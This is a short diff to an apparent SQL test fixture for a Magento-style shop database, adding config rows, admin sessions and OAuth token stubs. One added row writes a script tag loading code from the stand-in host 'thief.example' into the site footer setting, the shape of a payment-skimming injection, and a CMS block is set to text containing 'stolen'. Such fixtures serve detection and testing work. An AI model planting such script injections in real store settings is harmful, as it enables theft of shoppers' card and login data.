@@ -14,3 +14,7 @@ INSERT INTO mg_admin_user (user_id, username, is_active, created, modified) VALU
 INSERT INTO mg_admin_user_session (user_id, status, updated_at) VALUES (7, 1, '2026-02-03'), (7, 1, '2026-02-03'), (7, 2, '2026-02-03'), (8, 1, '2026-02-03');
 INSERT INTO mg_integration (integration_id, name, status, consumer_id, updated_at) VALUES (1, 'ERP & feeds', 1, 4, '2026-02-03'), (2, 'other', 1, 5, '2026-02-03');
 INSERT INTO mg_oauth_token (consumer_id, admin_id, type, token, revoked) VALUES (4, NULL, 'access', 'a', 0), (4, NULL, 'verifier', 'b', 0), (5, NULL, 'access', 'c', 0), (NULL, 7, 'access', 'd', 0);
+UPDATE mg_core_config_data SET updated_at = '2026-02-03';
+INSERT INTO mg_core_config_data (config_id, scope, scope_id, path, value, updated_at) VALUES (90, 'stores', 2, 'payment/hosted/active', '1', '2026-02-03'),
+  (91, 'default', 0, 'design/footer/absolute_footer', '<script src="//thief.example"></script>', '2026-02-03');
+UPDATE mg_cms_block SET content = '<p>é \\ stolen</p>', update_time = '2026-02-03' WHERE block_id = 1;
